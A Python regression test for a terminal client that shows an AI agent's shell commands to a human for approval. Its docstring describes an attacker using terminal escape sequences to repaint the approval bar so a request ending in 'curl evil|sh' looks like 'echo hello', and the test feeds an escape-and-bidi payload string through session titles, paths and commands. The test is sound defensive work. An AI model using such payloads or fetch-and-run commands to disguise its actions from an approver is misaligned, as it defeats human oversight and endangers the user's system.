"""No string from dshd, the model or another user reaches the terminal raw: an outside
attacker's finding. A command holding ``ESC ] 0;TITLE BEL`` set tmux's pane title, OSC 52
wrote the clipboard, and CSI cursor moves repainted the approvals bar so it read ``bash asks:
echo hello`` while the request was ``...;curl evil|sh`` -- and ``y`` approved it. The running
call's command row, the typed result line, the recent list, the cancel question, the session
labels (list, pane title, the other session's "asks" row), the cwd and the request itself
were drawn without cleaning.

The test makes a real dshd hold hostile text everywhere (a session whose title and cwd carry
escapes, running and finished calls with hostile commands, a request waiting in the watched
session and one in another session), then walks the main screen, the help, the whole-request
view and the cancel confirm, and reads every segment the compositor renders."""

from __future__ import annotations

import re
import subprocess
import sys

import trio

from client.api import connect
from client.tui.app import DshApp
from client.tui.approvals import CommandScreen
from client.tui.confirm import ConfirmScreen
from client.tui.help import HelpScreen
from client.tui.panes import ApprovalsBar, SessionPane
from tests.tui.conftest import run_app, screen_text, until
from tests.tui.helpers import ask_from_outside
from tests.tui.test_tui_elsewhere import HOLDER

#: What a rendered segment must never hold: ESC and every C0 control, DEL and C1, bidi
#: marks, embeddings, overrides and isolates, zero-width characters, line and paragraph
#: separators, the Hangul fillers that render blank.
FORBIDDEN = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u115f\u1160\u200b-\u200f\u2028-\u202e"
                       "\u2060-\u2069\u3164\ufeff\uffa0]")
#: Every kind of hostile text: OSC title and clipboard, CSI cursor moves and erase, an 8-bit
#: CSI, a bidi override, zero-width and line-separator characters, markup brackets.
EVIL = ("\x1b]0;PWNED\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[H\x9b1;1H\u202e\u200b\u2028"
        "\u3164[reverse]\x01")


def hostile_segments(app: DshApp) -> list[str]:
    """The rendered segments of the current screen that hold a forbidden character."""
    found = []
    for strip in app.screen._compositor.render_strips():  # type: ignore[attr-defined]
        for segment in strip:
            if FORBIDDEN.search(segment.text):
                found.append(repr(segment.text))
    return found


async def make_sessions(socket, cwd: str) -> tuple[str, str, str]:
    """The watched session (hostile title and cwd, a running and a finished hostile call)
    and another session (hostile title): their ids and the running call's id."""
    async with connect(socket) as c:
        other = await c.create_session(cwd, title="other" + EVIL)
        watched = await c.create_session(cwd, title="mine" + EVIL)
        done = await c.start_tool(watched, "printf 'out%s\\n' \"$X\" # done" + EVIL,
                                  approved=True)
        await c.wait(watched, done.call_id)
        running = await c.start_tool(watched, "printf 'x\\033]0;OUT\\007\\n'; sleep 300 # run"
                                     + EVIL, approved=True)
        return watched, other, running.call_id


def test_no_hostile_character_reaches_the_screen(daemon, tui_root):
    cwd = tui_root / ("work" + EVIL.replace("/", "").replace("\x00", ""))
    cwd.mkdir()
    watched, other, _running = trio.run(make_sessions, daemon.socket, str(cwd))
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, other], env=daemon.env,
                              stdout=subprocess.PIPE, text=True)
    procs = [holder]
    assert holder.stdout.readline().strip() == "subscribed"
    app = DshApp(socket=daemon.socket, session=watched)

    async def scenario(pilot):
        await until(pilot, lambda: app.feed.watched == watched
                    and app.query_one(SessionPane).lane, "the hostile session watched")
        procs.append(ask_from_outside(daemon, watched, "echo asked # mine" + EVIL))
        procs.append(ask_from_outside(daemon, other, "echo asked # other" + EVIL))
        bar = app.query_one(ApprovalsBar)
        await until(pilot, lambda: bar.approval is not None and bar.elsewhere is not None,
                    "both requests on the bar")
        command = app.query_one("#command")
        command.value = "printf 'typed\\033]0;T\\007\\n' # typed" + EVIL
        command.focus()
        await pilot.press("enter")
        await until(pilot, lambda: "typed" in screen_text(app) and "recent:" in screen_text(app)
                    and "run" in screen_text(app), "the typed result and the recent list")
        await pilot.pause(0.3)
        assert hostile_segments(app) == [], "main screen"
        await pilot.press("f1")
        await until(pilot, lambda: isinstance(app.screen, HelpScreen), "the help")
        assert hostile_segments(app) == [], "help"
        await pilot.press("escape")
        await until(pilot, lambda: not isinstance(app.screen, HelpScreen), "help closed")
        app.action_view_request()
        await until(pilot, lambda: isinstance(app.screen, CommandScreen), "whole request")
        await pilot.pause(0.1)
        assert "bash asks: echo asked" in screen_text(app)
        assert hostile_segments(app) == [], "the whole request"
        await pilot.press("escape")
        await until(pilot, lambda: not isinstance(app.screen, CommandScreen), "view closed")
        app.screen.set_focus(app.query_one("#sessions"))
        await pilot.press("ctrl+k")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen), "the cancel confirm")
        await pilot.pause(0.1)
        assert "cancel call" in screen_text(app)
        assert hostile_segments(app) == [], "the cancel confirm"
        await pilot.press("escape")

    try:
        run_app(app, scenario, size=(120, 40))
    finally:
        for proc in procs:
            proc.kill()
            proc.wait()
